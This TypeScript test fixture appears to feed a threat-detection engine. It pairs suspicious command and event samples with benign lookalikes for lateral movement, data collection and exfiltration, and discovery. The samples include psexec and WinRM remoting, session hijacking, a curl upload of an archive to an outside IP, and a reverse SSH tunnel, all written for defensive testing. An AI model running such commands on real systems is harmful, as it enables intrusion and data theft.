import { type Case, event, ran, script } from './case.fixture.ts';

const S32 = 'C:\\Windows\\System32\\';
const CMD = `${S32}cmd.exe`;
const logon = (fields: Readonly<Record<string, string>>, srcIp = '') =>
  event('auth', 'logon', { outcome: 'success', srcIp }, fields);
const explicit = (server: string) =>
  event(
    'auth',
    'explicit_logon',
    { process: 'C:\\tools\\a.exe' },
    { TargetServerName: server, TargetUserName: 'admin' },
  );
const share = (name: string) =>
  event('file', 'share_access', { file: name }, { ShareName: name, SubjectUserName: 'bob' });
const checked = (target: string, mask = '0x2', subject = 'bob') =>
  event(
    'file',
    'share_check',
    {},
    { ShareName: '\\\\*\\ADMIN$', RelativeTargetName: target, AccessMask: mask, SubjectUserName: subject },
  );
const connects = (process: string, dstIp: string, dstPort = 443) =>
  event('network', 'connect', { process, srcIp: '10.0.0.5', dstIp, dstPort, outcome: 'success' });

/** Movement between machines. */
export const MOVEMENT_CASES: readonly Case[] = [
  [
    'remote-output-share',
    ran('cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1692 2>&1'),
    ran('cmd.exe /Q /c whoami 1> C:\\out.txt 2>&1'),
  ],
  ['psexec-command', ran('psexec.exe \\\\ws2 cmd'), ran('exec.exe ws2 cmd')],
  ['psexec-service-start', ran('x', 'C:\\Windows\\PSEXESVC.exe'), ran('x', 'C:\\Windows\\explorer.exe')],
  [
    'winrm-spawns-program',
    ran('whoami', `${S32}whoami.exe`, `${S32}wsmprovhost.exe`),
    ran('whoami', `${S32}whoami.exe`, CMD),
  ],
  [
    'dcom-spawns-shell',
    ran('cmd.exe /c a', CMD, `${S32}mmc.exe`),
    ran('notepad a', `${S32}notepad.exe`, `${S32}mmc.exe`),
  ],
  ['wmic-remote', ran('wmic /node:ws2 process list'), ran('wmic process list')],
  [
    'powershell-remoting',
    script('Invoke-Command -ComputerName ws2 -ScriptBlock { hostname }'),
    script('Invoke-Command -ScriptBlock { hostname }'),
  ],
  ['admin-share-mapped', ran('net use \\\\ws2\\C$ /user:corp\\admin'), ran('net use \\\\files\\public')],
  ['remote-task-or-service', ran('schtasks /create /s ws2 /tn t /tr a.exe'), ran('schtasks /create /tn t /tr a.exe')],
  ['session-hijack', ran('tscon 2 /dest:rdp-tcp#1'), ran('tsdiscon 2')],
  [
    'new-credentials-logon',
    logon({ LogonType: '9', LogonProcessName: 'seclogo' }),
    logon({ LogonType: '2', LogonProcessName: 'User32' }),
  ],
  ['explicit-credentials', explicit('ws2'), explicit('localhost')],
  ['external-interactive-logon', logon({ LogonType: '10' }, '203.0.113.9'), logon({ LogonType: '10' }, '10.0.0.9')],
  [
    'external-ssh-logon',
    event('auth', 'logon', { product: 'linux', outcome: 'success', srcIp: '203.0.113.9' }),
    event('auth', 'logon', { product: 'linux', outcome: 'success', srcIp: '10.0.0.9' }),
  ],
  ['admin-share-access', share('\\\\*\\C$'), share('\\\\*\\IPC$')],
  ['program-over-share', checked('Temp\\a.exe'), checked('Temp\\a.exe', '0x1')],
  ['remote-admin-pipe', checked('svcctl'), checked('svcctl', '0x2', 'WS1$')],
  ['ssh-scripted', ran('sshpass -p x ssh root@10.0.0.9'), ran('ssh root@10.0.0.9')],
];

/** Collection, exfiltration, control. */
export const COLLECTION_CASES: readonly Case[] = [
  ['archive-with-password', ran('rar.exe a -hpSecret out.rar C:\\docs'), ran('rar.exe a out.rar C:\\docs')],
  ['archive-staged', ran('tar -czf /tmp/out.tgz notes'), ran('tar -xzf /tmp/in.tgz')],
  ['database-dumped', ran('mysqldump --all-databases'), ran('mysql -e "select 1"')],
  ['upload-tool', ran('rclone copy C:\\docs remote:x'), ran('rclone version')],
  ['upload-command', ran('curl -T out.zip http://203.0.113.9/'), ran('curl http://203.0.113.9/')],
  [
    'upload-site',
    event('tls', 'connect', { domain: 'transfer.sh' }),
    event('tls', 'connect', { domain: 'transfer.example' }),
  ],
  ['tunnel-tool', ran('ssh -N -R 8080:localhost:80 user@203.0.113.9'), ran('ssh user@203.0.113.9')],
  ['remote-access-tool', ran('AnyDesk.exe --start'), ran('desk.exe --start')],
  ['file-server-opened', ran('python3 -m http.server 8000'), ran('python3 -m venv env')],
  ['carrier-connects-out', connects(`${S32}rundll32.exe`, '203.0.113.9'), connects(`${S32}rundll32.exe`, '10.0.0.9')],
  [
    'shell-connects-out',
    connects(`${S32}WindowsPowerShell\\v1.0\\powershell.exe`, '203.0.113.9'),
    connects(`${S32}svchost.exe`, '203.0.113.9'),
  ],
  [
    'odd-program-connects',
    connects('C:\\Users\\a\\Downloads\\a.exe', '10.0.0.9'),
    connects('C:\\Program Files\\a\\a.exe', '10.0.0.9'),
  ],
  [
    'backdoor-port',
    connects('C:\\Program Files\\a\\a.exe', '10.0.0.9', 4444),
    connects('C:\\Program Files\\a\\a.exe', '10.0.0.9', 4443),
  ],
];

/** Questions about the machine and the network. */
export const DISCOVERY_CASES: readonly Case[] = [
  ['discovery-user', ran('whoami'), ran('whoareyou')],
  ['discovery-network', ran('ip addr'), ran('ip help')],
  ['discovery-connections', ran('netstat -ano'), ran('netsetup -ano')],
  ['discovery-system', ran('uname -a'), ran('unarj -a')],
  ['discovery-processes', ran('tasklist /v'), ran('taskkill /im a.exe')],
  ['discovery-trusts', ran('nltest /domain_trusts'), ran('nslookup')],
  ['discovery-accounts', ran('net user /domain'), ran('net user bob x /add')],
  ['discovery-groups', ran('net localgroup administrators'), ran('net localgroup administrators bob /add')],
  ['discovery-machines', ran('net view'), ran('ping 127.0.0.1')],
  ['discovery-shares', ran('net view \\\\ws2'), ran('net share x=C:\\x')],
  ['discovery-services', ran('sc query'), ran('sc stop spooler')],
  ['discovery-defences', script('Get-MpComputerStatus'), script('Get-ComputerInfo')],
  ['discovery-registry', ran('reg query HKLM\\Software'), ran('reg add HKLM\\Software\\x')],
  ['discovery-policy', ran('net accounts'), ran('net start')],
  ['discovery-scheduled', script('crontab -l'), script('crontab -r')],
  ['discovery-files', script('find / -name notes'), script('find . -name notes')],
  ['discovery-privileges', script('sudo -l'), script('sudo ls')],
];
